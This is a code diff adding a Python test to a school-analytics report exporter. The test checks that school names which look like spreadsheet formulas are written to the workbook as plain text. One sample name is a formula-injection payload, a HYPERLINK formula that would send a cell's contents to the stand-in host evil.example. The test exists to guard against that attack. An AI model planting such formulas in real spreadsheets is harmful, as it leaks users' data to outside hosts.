@@ -385,3 +385,16 @@ def test_file_names_carry_the_scope_and_the_period() -> None:
     assert file_name(scope, custom, "html").endswith("-2025-09-01--2026-05-31.html")
     assert period_short(Period.quarter(2025, 4)) == "IV кв. 2025"
     assert period_short(custom) == "01.09.2025–31.05.2026"
+
+
+def test_a_name_that_looks_like_a_formula_is_shown_as_text_in_the_workbook() -> None:
+    hostile = sample_analysis()
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "=1+2", "@SUM(A1:A9)"]
+    hostile.schools_needing_attention = [
+        SchoolAttention(uuid.uuid4(), name, ["Нет участия в сетевых мероприятиях 94 дня"]) for name in names
+    ]
+    book = load_workbook(io.BytesIO(workbook(hostile)))
+    sheet = book["Школы, требующие внимания"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value in names]
+    assert [cell.value for cell in cells] == names
+    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula Excel would run
